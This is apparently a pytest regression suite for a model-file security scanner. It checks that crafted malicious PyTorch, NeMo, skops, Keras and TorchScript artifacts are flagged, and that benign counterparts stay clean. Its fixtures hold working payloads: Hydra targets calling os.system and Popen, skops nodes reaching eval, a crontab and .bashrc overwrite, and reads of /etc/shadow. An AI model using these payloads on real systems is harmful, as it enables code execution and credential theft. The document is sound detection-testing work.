"""Published bypasses found in the 2026-11 advisory sweep that loopwarden did not catch when they were written.

Each was first a strict xfail; each is caught now and is an ordinary regression test, next to the benign
counterpart that pins what the fix must keep clean: tensor metadata outside its storage (LW-MODEL-017), NeMo Hydra
targets (LW-MODEL-042), skops schemas (LW-MODEL-044), Keras TFSMLayer (LW-MODEL-033) and TorchScript file I/O
(LW-MODEL-031).
"""

from __future__ import annotations

import json
import struct
from pathlib import Path

import _container_payloads as cp
import pytest
from test_container_bypasses import assert_caught
from test_container_bypasses import scan as scan_files

from loopwarden.domain import Severity, Verdict


def assert_clean(results: list[object]) -> None:
    t = results[0]
    assert t.verdict is Verdict.CLEAN, t  # type: ignore[attr-defined]


# --- CVE-2026-24747: tensors whose metadata leaves their storage; SETITEM on a tensor -------------------------


def _binunicode(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _int(i: int) -> bytes:
    return b"J" + struct.pack("<i", i)


def _tensor(offset: int, size: int, stride: int = 1, numel: int = 16) -> bytes:
    """torch._utils._rebuild_tensor_v2(storage ('storage', FloatStorage, '0', 'cpu', numel), offset, (size,),
    (stride,), False, OrderedDict()) as torch.save writes it (protocol 2, BINPERSID)."""
    pid = b"(" + _binunicode("storage") + b"ctorch\nFloatStorage\n" + _binunicode("0") + _binunicode("cpu")
    pid += _int(numel) + b"tQ"
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + pid
        + _int(offset)
        + b"("
        + _int(size)
        + b"t("
        + _int(stride)
        + b"t\x89ccollections\nOrderedDict\n)RtR"
    )


def _state_dict(tensor: bytes) -> bytes:
    return b"\x80\x02}" + _binunicode("weight") + tensor + b"s."


def _torch_file(pkl: bytes) -> bytes:
    """cp.torch_zip stores 64 bytes in archive/data/0: a FloatStorage of 16 elements."""
    return cp.torch_zip(pkl)


_FLOAT = b"G" + struct.pack(">d", 1.0)


@pytest.mark.parametrize(
    "pkl",
    [
        pytest.param(_state_dict(_tensor(offset=1_000_000, size=16)), id="offset-past-storage"),
        pytest.param(_state_dict(_tensor(offset=0, size=1 << 30)), id="size-past-storage"),
        pytest.param(_state_dict(_tensor(offset=0, size=16, stride=1 << 20)), id="stride-past-storage"),
        pytest.param(_state_dict(_tensor(offset=0, size=16, numel=1 << 28)), id="storage-larger-than-record"),
        pytest.param(
            b"\x80\x02" + _tensor(0, 16) + b"J\x00\x00\x10\x00" + _FLOAT + b"s.", id="setitem-on-tensor"
        ),
        pytest.param(
            b"\x80\x02" + _tensor(0, 16) + b"(J\x00\x00\x10\x00" + _FLOAT + b"u.", id="setitems-on-tensor"
        ),
    ],
)
def test_cve_2026_24747_tensor_metadata_and_setitem(tmp_path: Path, pkl: bytes) -> None:
    """torch.load(weights_only=True) corrupts memory when a rebuilt tensor's offset/size/stride reach past its
    storage, or when SETITEM/SETITEMS are applied to a tensor instead of a dict (CVE-2026-24747,
    https://github.com/pytorch/pytorch/security/advisories/GHSA-63cw-57p8-fm3p ,
    https://github.com/pytorch/pytorch/issues/163105 ; modelaudit detects it since
    https://github.com/promptfoo/modelaudit/pull/1524).

    Caught by LW-MODEL-017: constant rebuild arguments are checked against the storage's declared elements,
    the declared elements against the data/<key> record, and item assignment on a tensor is reported."""
    assert_caught(scan_files(tmp_path, {"model.pt": _torch_file(pkl)}))


def test_cve_2026_24747_benign_tensor_stays_clean(tmp_path: Path) -> None:
    """The counterpart a fix must keep clean: a 16-float tensor over a 16-float storage, and a view of it."""
    assert_clean(scan_files(tmp_path, {"model.pt": _torch_file(_state_dict(_tensor(offset=0, size=16)))}))
    view = _state_dict(_tensor(offset=8, size=4, stride=2))
    assert_clean(scan_files(tmp_path / "view", {"model.pt": _torch_file(view)}))


# --- CVE-2025-23304: NeMo checkpoints instantiate Hydra _target_ from their YAML config -----------------------


def _nemo(config: bytes, name: str = "model_config.yaml") -> bytes:
    weights = cp.torch_zip(cp.benign_pickle())
    return cp.tar_of({name: config, "model_weights.ckpt": weights}, mode="w:")


_NEMO_PAYLOADS = {
    "os-system": b"model:\n  _target_: os.system\n  command: echo pwned\n",
    "subprocess-popen": b"model:\n  encoder:\n    _target_: subprocess.Popen\n    args: [sh, -c, id]\n",
    "builtins-exec": b"model:\n  preprocessor:\n    _target_: builtins.exec\n    _args_: ['import os']\n",
    "partial-eval": b"model:\n  loss:\n    _target_: builtins.eval\n    _partial_: true\n",
    "flow-style": b"{model: {_target_: posix.system, _args_: [id]}}\n",
}


@pytest.mark.parametrize("case", sorted(_NEMO_PAYLOADS))
def test_cve_2025_23304_nemo_hydra_target(tmp_path: Path, case: str) -> None:
    """NeMo's restore_from builds the model with hydra.utils.instantiate on model_config.yaml, so any importable
    callable named by a `_target_` key runs with the config's arguments (CVE-2025-23304,
    https://nvd.nist.gov/vuln/detail/CVE-2025-23304 ; modelaudit's NeMo scanner,
    https://github.com/promptfoo/modelaudit/pull/609).

    Caught by LW-MODEL-042: YAML members are composed (never constructed) and each _target_ judged by the
    pickle allow-list."""
    assert_caught(scan_files(tmp_path, {"model.nemo": _nemo(_NEMO_PAYLOADS[case])}))


def test_cve_2025_23304_benign_nemo_stays_clean(tmp_path: Path) -> None:
    """The counterpart a fix must keep clean: NeMo's own classes as targets."""
    config = (
        b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n"
        b"  preprocessor:\n    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
        b"  optim:\n    name: adamw\n    lr: 0.001\n"
    )
    assert_clean(scan_files(tmp_path, {"model.nemo": _nemo(config)}))


# --- CVE-2025-54412 / CVE-2025-54413: skops schemas naming arbitrary callables ---------------------------------


def _json_node(value: object) -> dict[str, object]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
    }


def _skops(step: dict[str, object]) -> bytes:
    pipeline = {
        "__class__": "Pipeline",
        "__module__": "sklearn.pipeline",
        "__loader__": "ObjectNode",
        "content": {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {
                "steps": {
                    "__class__": "list",
                    "__module__": "builtins",
                    "__loader__": "ListNode",
                    "content": [step],
                }
            },
        },
        "protocol": 2,
        "_skops_version": "0.10.0",
    }
    return cp.zip_of({"schema.json": json.dumps(pipeline).encode()})


_SKOPS_STEPS: dict[str, dict[str, object]] = {
    "operator-methodcaller": {
        "__class__": "methodcaller",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "attrs": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [_json_node("system"), _json_node("id")],
        },
    },
    "method-node-os-system": {
        "__class__": "method",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "content": {
            "func": "system",
            "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode", "content": "os"},
        },
    },
    "function-node-eval": {
        "__class__": "function",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "content": {"module_path": "builtins", "function": "eval"},
    },
}


@pytest.mark.parametrize("case", sorted(_SKOPS_STEPS))
def test_cve_2025_54412_54413_skops_schema(tmp_path: Path, case: str) -> None:
    """skops.io.load rebuilds objects from schema.json: OperatorFuncNode and MethodNode let a file reach callables
    the trust check did not see (CVE-2025-54412 https://nvd.nist.gov/vuln/detail/CVE-2025-54412 ,
    CVE-2025-54413 https://nvd.nist.gov/vuln/detail/CVE-2025-54413 ; modelaudit's skops scanner,
    https://github.com/promptfoo/modelaudit/pull/392).

    Caught by LW-MODEL-044: a schema.json with skops' __loader__/protocol keys has every node's name judged by
    the pickle allow-list."""
    assert_caught(scan_files(tmp_path, {"model.skops": _skops(_SKOPS_STEPS[case])}))


def test_skops_benign_schema_stays_clean(tmp_path: Path) -> None:
    """The counterpart a fix must keep clean: a Pipeline holding a StandardScaler."""
    step = {
        "__class__": "StandardScaler",
        "__module__": "sklearn.preprocessing._data",
        "__loader__": "ObjectNode",
        "content": {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {"with_mean": _json_node(True)},
        },
    }
    assert_clean(scan_files(tmp_path, {"model.skops": _skops(step)}))


# --- CVE-2026-1462: Keras TFSMLayer loads an attacker's SavedModel named in config.json ---------------------------


def _keras_tfsm(filepath: str, module: str) -> bytes:
    layer = {
        "module": module,
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": filepath, "call_endpoint": "serve"},
        "registered_name": None,
    }
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2]}}
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [first, layer]}}
    return cp.keras_zip(cfg)


@pytest.mark.parametrize(
    ("filepath", "module"),
    [
        ("/tmp/attacker_savedmodel", "keras.layers"),
        ("../../shared/savedmodel", "keras.layers"),
        ("gs://attacker-bucket/savedmodel", "keras.src.export.tfsm_layer"),
    ],
)
def test_cve_2026_1462_keras_tfsmlayer(tmp_path: Path, filepath: str, module: str) -> None:
    """TFSMLayer.from_config loads the TensorFlow SavedModel at config["filepath"] even with safe_mode=True, and a
    SavedModel can run arbitrary ops/code (CVE-2026-1462,
    https://github.com/advisories/GHSA-4f3f-g24h-fr8m).

    Caught by LW-MODEL-033: any TFSMLayer is reported with the path it loads."""
    assert_caught(scan_files(tmp_path, {"model.keras": _keras_tfsm(filepath, module)}), "LW-MODEL-033")


# --- CVE-2025-32434: TorchScript code reading and writing files through aten::from_file / aten::save ---------------


def _torchscript(body: bytes) -> bytes:
    """The torch.jit.save layout: data.pkl, constants.pkl, version and the compiled class under code/."""
    header = b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
    return cp.zip_of(
        {
            "archive/data.pkl": cp.benign_pickle(),
            "archive/constants.pkl": b"\x80\x02).",
            "archive/version": b"3\n",
            "archive/code/__torch__/m.py": header + body,
        }
    )


_TS_FILE_IO = {
    "save-in-setstate": (
        b"  def __setstate__(self: __torch__.M, state: Tuple[bool]) -> None:\n"
        b"    self.training = state[0]\n"
        b'    torch.save("* * * * * sh -c id\\n", "/var/spool/cron/crontabs/root")\n'
        b"    return None\n"
    ),
    "save-bashrc-in-forward": (
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b'    torch.save("\\nid\\n", "/home/victim/.bashrc")\n'
        b"    return x\n"
    ),
    "from-file-read": (
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b'    _0 = torch.from_file("/etc/shadow", False, 4096, dtype=4)\n'
        b"    return torch.add(x, torch.sum(_0))\n"
    ),
    "torchvision-image-write-file": (
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b'    ops.image.write_file("/home/victim/.bashrc", torch.ones([4], dtype=0))\n'
        b"    return x\n"
    ),
    "torchaudio-save-in-setstate": (
        b"  def __setstate__(self: __torch__.M, state: Tuple[bool]) -> None:\n"
        b'    ops.torchaudio.sox_io_save_audio_file("/tmp/x", torch.ones([1, 4]), 16000, True, None)\n'
        b"    return None\n"
    ),
    "ops-aten-spelling": (
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b'    ops.aten.save(x, "/tmp/owned")\n'
        b'    _0 = ops.aten.from_file("/etc/passwd", None, 64)\n'
        b"    return x\n"
    ),
}


@pytest.mark.parametrize("case", sorted(_TS_FILE_IO))
def test_cve_2025_32434_torchscript_file_io(tmp_path: Path, case: str) -> None:
    """torch.load(weights_only=True) handed TorchScript archives to torch.jit.load, and TorchScript can call
    aten::save (torch.save: writes a file, e.g. .bashrc or a crontab, for code execution) and aten::from_file
    (torch.from_file: reads any file into a tensor) from __setstate__ at load time or from forward (CVE-2025-32434,
    https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6 ; the technique is in Ji'an Zhou and
    Lishuo Song, "Safe Harbor or Hostile Waters: Unveiling the Hidden Perils of the TorchScript Engine in PyTorch",
    Black Hat USA 2025, slides 64-73; modelscan miss: https://huggingface.co/EnigmaConsultant/huntr-poc-torchscript-fileio).

    Caught by LW-MODEL-031: torch.save/torch.from_file and their aten spellings are reported (CRITICAL in
    __setstate__), as are operators of any namespace named for file I/O."""
    assert_caught(scan_files(tmp_path, {"model.pt": _torchscript(_TS_FILE_IO[case])}), "LW-MODEL-031")


def test_torchscript_tensor_math_stays_clean(tmp_path: Path) -> None:
    """The counterpart a fix must keep clean: matmul/add/relu, and a name that merely contains "save"."""
    body = (
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b"    saved_mean = torch.mean(x)\n"
        b"    _0 = torch.add(torch.matmul(x, x), saved_mean)\n"
        b"    img = ops.image.decode_jpeg(torch.ones([4], dtype=0), 0, False)\n"
        b"    threshold = ops.aten.masked_fill(x, torch.gt(x, 0.5), 0.0)\n"
        b"    return torch.relu(_0)\n"
    )
    assert_clean(scan_files(tmp_path, {"model.pt": _torchscript(body)}))


def test_torchscript_class_paths_through_an_ops_package_stay_clean(tmp_path: Path) -> None:
    """torch.jit.script of torchvision models (mobilenet_v3, RAFT, the detection models) names its classes
    ``__torch__.torchvision.ops.misc.___torch_mangle_81.Conv2dNormActivation``: the ``ops.misc.<name>`` inside
    that qualified name is a module path of the archive's own code, not an operator call."""
    body = (
        b'  __annotations__["0"] = __torch__.torchvision.ops.misc.___torch_mangle_81.Conv2dNormActivation\n'
        b'  __annotations__["1"] = __torch__.torchvision.ops.misc.SqueezeExcitation\n'
        b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        b'    _0 = getattr(self, "0")\n'
        b"    _1 = (__torch__.torchvision.ops.misc.Conv2dNormActivation).forward(_0, x, )\n"
        b"    _2 = __torch__.my.ops.read_file.Cls.forward(_1)\n"
        b"    return _2\n"
    )
    assert_clean(scan_files(tmp_path, {"model.pt": _torchscript(body)}))


@pytest.mark.parametrize(
    "line",
    [
        # an operator call on the same line as a class path is still seen
        b"    _0 = __torch__.torchvision.ops.misc.Conv.forward(ops.evil_ns.run_shell(x))\n",
        b"    _0 = ops.evil_ns.run_shell(__torch__.torchvision.ops.misc.Conv)\n",
        b"    _0 = torch.ops.evil_ns.run_shell(x) + __torch__.a.ops.b.C\n",
        # a chain that does not start at __torch__ is not a class path of the archive
        b"    _0 = x__torch__.a.ops.evil_ns.run_shell(x)\n",
        b"    _0 = self.ops.evil_ns.run_shell(x)\n",
        # file operators keep their severity whatever precedes them
        b'    _0 = __torch__.a.ops.misc.C(ops.image.write_file("/home/v/.bashrc", x))\n',
    ],
)
def test_torchscript_operator_calls_next_to_class_paths_are_reported(tmp_path: Path, line: bytes) -> None:
    """Custom-namespace operators are MEDIUM (they need a native library loaded), file operators HIGH."""
    body = b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n" + line + b"    return x\n"
    assert_caught(scan_files(tmp_path, {"model.pt": _torchscript(body)}), "LW-MODEL-031", Severity.MEDIUM)
